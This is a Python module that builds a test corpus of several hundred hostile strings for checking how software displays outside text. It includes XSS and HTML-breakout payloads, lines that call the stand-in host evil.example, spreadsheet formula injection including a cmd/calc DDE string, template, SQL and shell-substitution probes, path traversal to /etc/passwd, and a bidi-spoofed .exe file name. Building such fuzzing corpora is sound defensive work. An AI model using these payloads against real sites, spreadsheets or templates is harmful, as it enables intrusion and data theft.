"""Text that was made to do harm, or to look like something else: more than 500 pieces, put together from families.

For whatever shows outside text. Each piece is a valid Python string, not always valid Unicode (lone surrogates are in it).
"""

from __future__ import annotations

from itertools import product

_CALL = "document.title='HIT'"
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
)
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "iframe src=x", "marquee")
_BREAKOUTS = ("", '"', "'", '">', "'>", "-->", "]]>", "</style>", "</title>", "</textarea>", "</svg>", "`>", '\\">')
_PAYLOADS = (
    f"<script>{_CALL}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    "<iframe srcdoc='<p>x'></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Press</button></form>",
    "<object data=https://evil.example/x></object>",
    "<style>*{display:none}</style>",
    "<a href=javascript:alert(1)>free flowers</a>",
    "<img src=https://evil.example/pixel.gif>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
)
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://evil.example/" + "a" * 3000,
    "https://user:secret@evil.example/",
    "blob:null/x",
)
_FORMULAS = (
    '=HYPERLINK("https://evil.example","click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "\u200b=1+1",
    ";=1+1",
    "<r><f>1+1</f></r>",
    '=WEBSERVICE("https://evil.example/")',
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{ config }}",
    "{{ cycler.__init__.__globals__ }}",
    "{# gone #}",
    "{{",
    "}}",
    "{%",
    "%}",
    "{{ self }}",
    "%(x)s",
    "{0.__class__}",
    "%n%n%n",
    "$(touch x)",
    "`touch x`",
    "; DROP TABLE recipients; --",
    "' OR 1=1 --",
    "../../../etc/passwd",
)
_CSS = (
    "};*{display:none}",
    "background:url(https://evil.example/x)",
    "</style><script>alert(1)</script>",
    "@import 'https://evil.example/x'",
    "expression(alert(1))",
    "width:999999px",
    "position:fixed;inset:0",
    "\\3c script\\3e",
    "/* ",
    "*/ body{}",
)
_ENTITIES = (
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;",
    "&",
    "&#0;",
    "&#xD800;",
    "&nbsp;",
    "&lt",
    "&copy",
    "&NotEqualTilde;",
    "&#128;",
    "&#99999999999;",
)
_BIDI = tuple(chr(code) for code in (0x061C, *range(0x200E, 0x2010), *range(0x202A, 0x202F), *range(0x2066, 0x206A)))
_UNSEEN = tuple(
    chr(code)
    for code in (
        0x00AD,
        0x034F,
        0x115F,
        0x1160,
        0x17B4,
        0x180E,
        0x200B,
        0x200C,
        0x200D,
        0x2028,
        0x2029,
        0x2060,
        0x2063,
        0x3164,
        0xFE00,
        0xFE0F,
        0xFEFF,
        0xFFA0,
        0xFFF9,
        0xFFFB,
        0xFFFD,
        0xFFFE,
        0xFFFF,
        0xE0001,
        0xE0041,
        0x1D173,
        0x10FFFF,
    )
)
_EMOJI = (
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "🇹🇷",
    "👍🏽",
    "1️⃣",
    "❤️‍🔥",
    "🏴‍☠️",
    "🧑🏿‍🚀",
    "🇹",
    "\u200d👩",
    "👩\u200d",
    "🏴\U000e0067",
    "☺︎",
    "🫨",
    "🌷" * 700,
)
_SCRIPTS = (
    "مرحبا بالعالم",
    "שלום עולם",
    "نمی‌خواهم",
    "हिन्दी क्ष",
    "ภาษาไทยที่ไม่มีช่องว่าง",
    "中文字符",
    "日本語テキスト",
    "한국어",
    "İIıiŞşĞğ",
    "ß ẞ ﬁ Ǆ",
    "ﷺﷺﷺ",
    "𝕊𝕒𝕝𝕖 𝒮𝒶𝓁𝑒",
    "𒐫𒐫𒐫",
    "꧅꧅꧅",
    "؁ abc",
    "ա" * 200,
    "\u0e33" * 50,
    "༼ཨ༽",
)
_MARKS = (
    "*",
    "**",
    "* *",
    "***a***",
    "*a",
    "a*",
    "*a_b*c_",
    "_*~x~*_",
    "```",
    "``````",
    "```a",
    "a```b```c",
    "`a`",
    "`",
    "> ",
    ">",
    "> > a",
    "- ",
    "-",
    "1. ",
    "999. a",
    "* a\n* b",
    "> a\n> b\nc",
    "*a\nb*",
    "~~a~~",
    "_" * 3000,
    "*a " * 1500,
    "`a " * 1500,
    "```a " * 900,
    "> " * 1000,
    "*_~" * 1000,
)
_LONG = (
    "a" * 40_000,
    "W" * 4096,
    "-" * 4096,
    "\u00a0" * 4096,
    "&" * 4096,
    "<" * 40_000,
    "\x00" * 40_000,
    "\u202e" * 40_000,
    "\n" * 5000,
    "\r\n" * 2000,
    "\t" * 3000,
    "漢" * 40_000,
    "ﷺ" * 500,
    "a\u0300" * 3000,
    "\x00a" * 500,
    "http://" + "b" * 40_000,
    " " * 40_000,
    "0" * 40_000,
)


def _zalgo(text: str, depth: int) -> str:
    return "".join(letter + "".join(chr(0x0300 + (i * 7) % 0x70) for i in range(depth)) for letter in text)


def _all() -> list[str]:
    found = [f"{start}{payload}" for start, payload in product(_BREAKOUTS, _PAYLOADS)]
    found += [f"<{tag} {event}={_CALL}>" for tag, event in product(_TAGS, _EVENTS)]
    found += [f"{quote} {event}={quote}{_CALL}" for quote, event in product(('"', "'", " ", "`"), _EVENTS)]
    found += [*_SCHEMES, *_FORMULAS, *_TEMPLATES, *_CSS, *_ENTITIES, *_EMOJI, *_SCRIPTS, *_MARKS, *_LONG]
    found += [f"Ayşe{mark}gpj.exe" for mark in _BIDI] + [mark * 60 for mark in _BIDI]
    found += [f"a{unseen}b" for unseen in _UNSEEN]
    found += [f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))]
    found += ["\ud800", "a\udfffb", "\udcff\ud8ff", "\ud83d\ud83d"]
    found += [_zalgo("Hello", depth) for depth in (1, 10, 60, 400)]
    found += [f"*{payload}*" for payload in _PAYLOADS] + [f"```{payload}```" for payload in _PAYLOADS]
    found += [f"> {payload}\n- {payload}\n1. {payload}" for payload in _PAYLOADS]
    return list(dict.fromkeys(found))


HOSTILE_STRINGS = _all()
